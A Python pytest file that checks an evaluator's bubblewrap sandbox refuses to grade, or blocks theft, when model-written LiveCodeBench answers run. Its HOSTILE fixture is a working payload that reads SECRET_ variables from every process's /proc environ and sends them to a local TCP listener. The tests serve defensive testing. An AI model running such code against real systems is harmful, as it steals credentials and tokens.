"""Isolation that fails closed: the self-test's hostile probes, the refusal, the secrets held.

The attack these tests replay: a LiveCodeBench answer (code a routed model wrote, which a
hostile miner can steer) reads the secret from /proc/<pid>/environ of every process it can
see and sends it to a listener on 127.0.0.1. Where bubblewrap cannot create its namespaces
(here: a non-root user in a user namespace whose kernel limit forbids more of them), every
command that can hold a secret refuses; under working bubblewrap the answer sees nothing.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from evaluator import isolation, sandbox, vault
from evaluator.benchmarks.livecodebench import LiveCodeBench
from evaluator.errors import IsolationError
from evaluator.isolation import Check, Isolation

ROOT = Path(__file__).resolve().parents[1]
IN_CI = bool(os.environ.get("CI"))
WORKING = sandbox.isolation_available() == sandbox.BUBBLEWRAP


def needs_bubblewrap(test):
    """Skipped where bubblewrap cannot start, except under CI, where that is a failure."""
    return pytest.mark.skipif(not WORKING and not IN_CI,
                              reason="bubblewrap does not work on this machine")(test)


NOT_IN_FORCE = Isolation(sandbox.RLIMITS, sandbox.PER_PROCESS,
                         failure="bwrap failed here: Creating new namespace failed",
                         fix="install the bwrap AppArmor profile")

HOSTILE = '''```python
import os, socket, sys
found = set()
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            found.update(v for v in f.read().split(b"\\0") if v.startswith(b"SECRET_"))
    except OSError:
        pass
for secret in found:
    try:
        socket.create_connection(("127.0.0.1", int(sys.argv[0] and PORT)), timeout=2).sendall(secret)
    except OSError:
        pass
print(int(input()) + 1)
```'''
REFERENCE = {"tests": [{"input": "1", "output": "2", "testtype": "stdin"}], "fn_name": None}


@contextlib.contextmanager
def listener():
    """A TCP listener on 127.0.0.1: the port, and what reached it."""
    heard: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    heard.append(conn.recv(4096))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], heard
    finally:
        time.sleep(0.3)
        stop.set()
        thread.join(2)
        server.close()


def hostile_answer(port: int) -> str:
    return HOSTILE.replace("int(sys.argv[0] and PORT)", str(port))


# The self-test --------------------------------------------------------------------------


@needs_bubblewrap
def test_the_self_test_holds_here_and_says_how():
    found = isolation.verified()
    assert found.in_force, found.reason
    names = [check.name for check in found.checks]
    assert {"no other process's environment", "no network", "no host files",
            "seccomp filter: no user namespaces", "memory cap", "process cap"} <= set(names)
    assert found.describe().startswith("bubblewrap: own pid, network, mount and ipc namespaces")
    assert f"self-test {len(names)}/{len(names)} held" in found.describe()


@needs_bubblewrap
def test_a_sandbox_without_its_seccomp_filter_is_not_in_force(monkeypatch):
    # half-started: the namespaces are there, the filter is not
    monkeypatch.setattr(sandbox.seccomp, "filter_program", lambda: None)
    found = isolation.self_test()
    assert not found.in_force
    assert "seccomp filter: no user namespaces (Seccomp 0, unshare 0)" in found.reason


@needs_bubblewrap
def test_a_sandbox_that_lets_the_probes_through_is_not_in_force():
    def unsandboxed(source, stdin, limits, mode):
        return sandbox.run_program(source, stdin, limits, sandbox.RLIMITS)

    found = isolation.self_test(run=unsandboxed)
    failed = {check.name for check in found.checks if not check.held}
    assert not found.in_force
    assert {"no other process visible", "no network", "no host files",
            "seccomp filter: no user namespaces"} <= failed


def test_a_self_test_probe_that_hangs_is_not_in_force():
    found = isolation.self_test(run=lambda *args: time.sleep(30), timeout=0.5)
    assert not found.in_force
    assert found.reason == "the sandbox self-test did not finish in 0 s (a probe hangs)"


@needs_bubblewrap  # without it the probes never run
def test_a_self_test_probe_that_breaks_is_not_in_force_and_says_so():
    def broken(*args):
        raise RuntimeError("the probe's runner is missing")

    found = isolation.self_test(run=broken, timeout=30)
    assert not found.in_force
    assert "RuntimeError: the probe's runner is missing" in found.reason


@needs_bubblewrap
def test_a_cgroup_that_cannot_be_created_is_not_in_force(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox.cgroups, "cgroup_base", lambda: tmp_path / "no-such-cgroup")
    found = isolation.self_test()
    assert not found.in_force
    assert "cannot create the run's cgroup" in found.reason
    with pytest.raises(IsolationError, match="cannot create the run's cgroup"):
        sandbox.run_program("print(1)", "", isolation=sandbox.BUBBLEWRAP)


# The refusal ----------------------------------------------------------------------------


def test_grading_refuses_where_isolation_is_not_in_force(monkeypatch):
    monkeypatch.setattr(isolation, "verified", lambda: NOT_IN_FORCE)
    with pytest.raises(IsolationError) as refused:
        LiveCodeBench().grade("```python\nprint(2)\n```", REFERENCE)  # never graded "wrong"
    message = str(refused.value)
    assert message.startswith("runner isolation not in force: bwrap failed here: Creating new "
                              "namespace failed. Code a routed model wrote would run beside")
    assert "Fix: install the bwrap AppArmor profile" in message
    assert "pass --unsandboxed: the graded code can then read every file" in message
    with pytest.raises(IsolationError) as refused:
        isolation.require(flag=None)  # evaluate and seal offer no way around it
    assert "--unsandboxed" not in str(refused.value)


def test_the_opt_in_grades_with_rlimits_and_says_so(monkeypatch):
    monkeypatch.setattr(isolation, "verified", lambda: NOT_IN_FORCE)
    with isolation.unsandboxed():
        grade = LiveCodeBench().grade("```python\nprint(int(input()) + 1)\n```", REFERENCE)
        assert isolation.require().describe() == "unsandboxed (--unsandboxed: rlimits only, " \
                                                 "caps per-process)"
    assert grade.correct
    with pytest.raises(IsolationError):
        isolation.require()  # the opt-in ends with its command


def test_not_in_force_names_each_probe_that_got_through():
    found = Isolation(sandbox.BUBBLEWRAP, sandbox.CGROUP,
                      (Check("no network", False, "the listener on 127.0.0.1 was reached"),
                       Check("memory cap", True)))
    assert not found.in_force
    assert found.reason == ("the sandbox let a probe through: no network (the listener on "
                            "127.0.0.1 was reached)")


def test_no_workflow_passes_the_opt_in():
    for workflow in (ROOT / ".github" / "workflows").glob("*.yml"):
        assert isolation.UNSANDBOXED_FLAG not in workflow.read_text(), workflow.name


# Secrets held tightly -------------------------------------------------------------------


HOLDER = textwrap.dedent('''
    import os, runpy, subprocess, sys
    vault = runpy.run_path(sys.argv[1])
    secret = vault["take"]("SECRET_TOKEN")
    child = subprocess.run(["/usr/bin/env"], capture_output=True, text=True).stdout
    print(secret, "SECRET_TOKEN" in os.environ, "SECRET_TOKEN" in child, vault["dumpable"](),
          flush=True)
    sys.stdin.read()
''')


def as_user() -> list[str]:
    """Run as nobody where the tests run as root (root reads any process); else as ourselves."""
    return ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"] \
        if os.geteuid() == 0 else []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="prctl is Linux's")
def test_a_secret_leaves_the_environment_and_its_holder_is_unreadable_to_its_user(shared):
    # the user reads the module from a folder it can reach, wherever the checkout lives
    vault_copy = shutil.copy(ROOT / "evaluator" / "vault.py", shared / "vault.py")
    holder = subprocess.Popen([*as_user(), "/usr/bin/python3", "-I", "-c", HOLDER, vault_copy],
                              env={"PATH": "/usr/bin:/bin", "SECRET_TOKEN": "s3cret-token"},
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd="/")
    try:
        assert holder.stdout.readline().split() == ["s3cret-token", "False", "False", "False"]
        # the same user, as another process would try: its environ and its memory are closed
        peek = subprocess.run([*as_user(), "/usr/bin/cat", f"/proc/{holder.pid}/environ"],
                              capture_output=True, text=True)
        assert peek.returncode != 0 and "Permission denied" in peek.stderr
        assert "s3cret-token" not in peek.stdout
    finally:
        holder.kill()
        holder.wait()


def test_a_secret_is_read_once_and_kept(monkeypatch):
    monkeypatch.setenv("BENCHMARK_PASSWORD", "a-long-enough-password")
    assert vault.take("BENCHMARK_PASSWORD") == "a-long-enough-password"
    assert "BENCHMARK_PASSWORD" not in os.environ
    assert vault.take("BENCHMARK_PASSWORD") == "a-long-enough-password"


# The attack, through the real commands --------------------------------------------------


BLOCKED = textwrap.dedent('''
    import ctypes, os, stat, sys
    from pathlib import Path
    # A user namespace mapping every id as it is, a mount namespace of its own; inside, the
    # kernel refuses further user namespaces, then the command runs as nobody
    libc = ctypes.CDLL(None, use_errno=True)
    ready, go = os.pipe(), os.pipe()
    pid = os.fork()
    if pid == 0:
        if libc.unshare(0x10000000 | 0x00020000) != 0:
            os._exit(90)
        os.write(ready[1], b"1")
        os.read(go[0], 1)
        if libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None) != 0:  # MS_REC | MS_PRIVATE
            os._exit(91)
        if os.environ.get("BLOCK_USERNS") == "1":
            Path("/proc/sys/user/max_user_namespaces").write_text("0")
        # the interpreter must be reachable by nobody: re-show a folder hidden by a 0700 parent
        path = Path(os.path.realpath(sys.argv[1]))
        for parent in reversed(path.parents):
            if not os.stat(parent).st_mode & stat.S_IXOTH:
                child = path.relative_to(parent).parts[0]
                keep = Path(sys.argv[2], "keep")
                keep.mkdir()
                for source, target, kind, flags in (
                        (parent / child, keep, None, 0x1000 | 0x4000),  # MS_BIND | MS_REC
                        (b"none", parent, b"tmpfs", 0),
                        (keep, parent / child, None, 0x1000 | 0x4000)):
                    if target == parent / child:
                        target.mkdir()
                    if libc.mount(bytes(str(source), "utf-8") if isinstance(source, Path)
                                  else source, bytes(str(target), "utf-8"), kind, flags,
                                  b"mode=755" if kind else None) != 0:
                        os._exit(92)
                break
        os.execvp("setpriv", ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
                              *sys.argv[3:]])
    os.read(ready[0], 1)
    for name in ("uid_map", "gid_map"):
        Path(f"/proc/{pid}/{name}").write_text("0 0 4294967295\\n")
    os.write(go[1], b"1")
    sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
''')


@pytest.fixture
def shared(tmp_path):
    """A folder nobody can use (pytest's own are 0700)."""
    folder = Path(tempfile.mkdtemp(prefix="tinyrouter-attack-"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def blocked_as_nobody(shared: Path, argv: list[str], env: dict[str, str], block: bool = True
                      ) -> subprocess.CompletedProcess:
    """`tinyrouter ARGV` as nobody, where bubblewrap cannot create a namespace (`block`), or
    where it can, as the maintaining guide's unprivileged runner."""
    scratch = Path(tempfile.mkdtemp(prefix="tinyrouter-keep-"))
    try:
        return subprocess.run(
            [sys.executable, "-c", BLOCKED, sys.executable, str(scratch), "env", "-i",
             *(f"{k}={v}" for k, v in env.items()), f"PYTHONPATH={ROOT}", "PATH=/usr/bin:/bin",
             sys.executable, "-m", "evaluator", *argv],
            capture_output=True, text=True, timeout=300, cwd=shared,
            env={**os.environ, "BLOCK_USERNS": "1" if block else "0"})
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


needs_root = pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"),
                                reason="building a machine where bwrap is blocked needs root")


@pytest.mark.slow
@needs_root
def test_bwrap_is_really_blocked_there(shared):
    shown = blocked_as_nobody(shared, ["runner", "check", "--only", "sandbox"], {})
    assert "Creating new namespace failed" in shown.stdout, shown.stdout + shown.stderr
    assert shown.returncode == 1


@pytest.mark.slow
@needs_root
@pytest.mark.parametrize("command", ["grade", "collect", "seal", "evaluate"])
def test_the_attack_meets_a_refusal_where_bwrap_cannot_start(shared, command):
    with listener() as (port, heard):
        (shared / "answer.md").write_text(hostile_answer(port))
        (shared / "reference.json").write_text(json.dumps(REFERENCE))
        (shared / "repo" / "leaderboard").mkdir(parents=True)
        argv = {
            "grade": ["grade", "livecodebench", "--reference", "@reference.json",
                      "--response-file", "answer.md"],
            "collect": ["collect", "--benchmark", "livecodebench", "--out", "data", "--repo",
                        "repo", "--source", "demo", "--pool-url", "http://127.0.0.1:9"],
            "seal": ["seal", "--source", "demo", "--private-source", "demo", "--out-dir", "sealed",
                     "--pool-url", "http://127.0.0.1:9", "--manifest",
                     "repo/leaderboard/manifest.json"],
            "evaluate": ["evaluate", "--repo", "repo", "--submission", "submissions/eve/1",
                         "--benchmark-dir", "sealed", "--out", "result.json",
                         "--private-out", "private.json"],
        }[command]
        secrets = {"SECRET_PASSWORD": "never-leaks", "BENCHMARK_PASSWORD": "SECRET_pw-0123456789",
                   "BENCHMARK_SEED": "SECRET_seed-0123456789", "OPENROUTER_API_KEY": "SECRET_key"}
        done = blocked_as_nobody(shared, argv, secrets)
    shown = done.stdout + done.stderr
    assert "runner isolation not in force: bwrap" in shown, shown
    assert "Creating new namespace failed" in shown
    assert heard == []
    if command == "evaluate":  # void, refunded, the reason public and nothing else
        assert done.returncode == 0
        public = json.loads((shared / "result.json").read_text())
        assert public["outcome"] == "void" and public["isolation"] == "runner isolation not in force"
        assert public["reason"].startswith("void: runner isolation not in force")
    else:
        assert done.returncode == 1
        assert ("--unsandboxed" in shown) == (command in ("grade", "collect"))


@pytest.mark.slow
@needs_root
def test_the_opt_in_is_what_lets_the_attack_through(shared):
    # the control: without the refusal the same answer, run the same way, steals the secret
    with listener() as (port, heard):
        (shared / "answer.md").write_text(hostile_answer(port))
        (shared / "reference.json").write_text(json.dumps(REFERENCE))
        done = blocked_as_nobody(shared, ["grade", "livecodebench", "--reference",
                                          "@reference.json", "--response-file", "answer.md",
                                          "--unsandboxed"], {"SECRET_PASSWORD": "stolen"})
    assert json.loads(done.stdout.splitlines()[0])["correct"] is True, done.stderr
    assert heard == [b"SECRET_PASSWORD=stolen"]


@pytest.mark.slow
@needs_root
def test_as_an_unprivileged_runner_with_working_bubblewrap_the_attack_sees_nothing(shared):
    with listener() as (port, heard):
        (shared / "answer.md").write_text(hostile_answer(port))
        (shared / "reference.json").write_text(json.dumps(REFERENCE))
        done = blocked_as_nobody(shared, ["grade", "livecodebench", "--reference",
                                          "@reference.json", "--response-file", "answer.md"],
                                 {"SECRET_PASSWORD": "never-leaks"}, block=False)
    assert json.loads(done.stdout.splitlines()[0])["correct"] is True, done.stderr
    assert heard == []


@needs_bubblewrap
def test_under_working_bubblewrap_the_attack_sees_nothing(shared, monkeypatch):
    with listener() as (port, heard):
        monkeypatch.setenv("SECRET_PASSWORD", "never-leaks")  # in the grader's own environment
        grade = LiveCodeBench().grade(hostile_answer(port), REFERENCE)
    assert grade.correct, grade
    assert heard == []


# runner check ---------------------------------------------------------------------------


@needs_bubblewrap
def test_runner_check_shows_each_probe_and_passes_where_the_sandbox_holds(capsys):
    from evaluator import cli

    assert cli.main(["runner", "check", "--only", "sandbox"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("pass  sandbox: bubblewrap: own pid, network")
    assert "pass  sandbox: no network: held" in lines
    assert lines[-1] == "this machine can be the evaluation runner"


def test_runner_check_fails_each_missing_piece_with_its_fix(capsys, monkeypatch, tmp_path):
    from evaluator import cli

    monkeypatch.setattr(isolation, "verified", lambda: NOT_IN_FORCE)
    monkeypatch.setenv("BENCHMARK_PASSWORD", "never-read-here-0123")
    code = cli.main(["runner", "check", "--only", "sandbox", "sealed", "--benchmark-dir",
                     str(tmp_path), "--repo", str(tmp_path)])
    out = capsys.readouterr().out
    assert code == 1
    assert ("FAIL  sandbox: bwrap failed here: Creating new namespace failed\n"
            "      fix: install the bwrap AppArmor profile\n") in out
    assert "skip  sealed files: not decrypted: the sandbox must hold first" in out
    assert os.environ["BENCHMARK_PASSWORD"] == "never-read-here-0123"
    assert out.endswith("1 check(s) failed\n")


def test_runner_check_loads_the_encoder_and_asks_the_disk_the_guide_names(
        capsys, tiny_path, tiny_rules, tmp_path):
    import dataclasses

    from evaluator.readiness import Setup, check_encoder, check_resources

    found = check_encoder(Setup(tiny_rules))
    assert [(f.ok, f.detail) for f in found] == [(True, f"{tiny_path} loads (4 layers, hidden "
                                                        "size 128)")]
    broken = tmp_path / "encoder"
    broken.mkdir()
    (broken / "config.json").write_text("{}")
    found = check_encoder(Setup(dataclasses.replace(tiny_rules, encoder_id=str(broken))))
    assert found[0].ok is False and "cannot load the encoder" in found[0].detail
    disk = check_resources(Setup(tiny_rules, benchmark_dir=tmp_path))[0]
    assert disk.detail.endswith(f"(needs {tiny_rules.runner_free_disk_gib})")


@pytest.mark.parametrize("missing", ["torch", "transformers"])
def test_runner_check_fails_the_encoder_without_the_model_extra(monkeypatch, tiny_rules, missing):
    from evaluator.readiness import Setup, check_encoder

    monkeypatch.setitem(sys.modules, missing, None)  # as in a venv without it
    found = check_encoder(Setup(tiny_rules))
    assert [f.ok for f in found] == [False]
    assert f"{missing} is not installed" in found[0].detail and "[model]" in found[0].fix
